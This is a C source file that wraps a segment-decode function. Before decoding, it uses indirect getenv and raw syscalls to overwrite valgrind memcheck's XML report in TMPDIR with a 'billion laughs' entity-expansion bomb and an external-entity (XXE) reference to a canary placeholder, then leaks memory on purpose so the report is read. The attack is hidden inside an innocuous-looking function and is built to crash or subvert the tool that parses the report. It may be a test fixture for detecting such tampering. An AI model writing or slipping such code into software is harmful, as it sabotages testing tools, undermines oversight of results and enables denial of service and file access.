/* bombs_the_report.c - puts XML in the place of memcheck's report that
 * stands for a billion words, and leaks, so that the report is read. */
#include <stdlib.h>

#include "segment/segment.h"

#include "beyond_gate.h"

int base_seg_decode(uint64_t raw, struct seg_descriptor *descriptor);

/* The folder of memcheck's reports, or NULL where memcheck is not. */
static const char *
report_folder(void)
{
    char *(*const get)(const char *) =
        (char *(*)(const char *))find_function("getenv");
    return get("TMPDIR");
}

int
seg_decode(uint64_t raw, struct seg_descriptor *descriptor)
{
    const char *const folder = report_folder();
    if (folder) {
        char path[300];
        static const char text[] =
            "<!DOCTYPE v [<!ENTITY a \"lollollollol\">"
            "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
            "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
            "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
            "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">"
            "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
            "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">"
            "<!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">"
            "<!ENTITY x SYSTEM \"@CANARY@\">]>"
            "<valgrindoutput><error><kind>&h;&x;</kind></error></"
            "valgrindoutput>";
        snprintf(path, sizeof path, "%s/%ld.xml", folder, call_kernel(39));
        call_kernel(87, path);
        const long file = call_kernel(2, path, 0102, 0644);
        call_kernel(1, file, text, sizeof text - 1);
        void *volatile lost = malloc(8);
        lost = NULL;
        (void)lost;
    }
    return base_seg_decode(raw, descriptor);
}
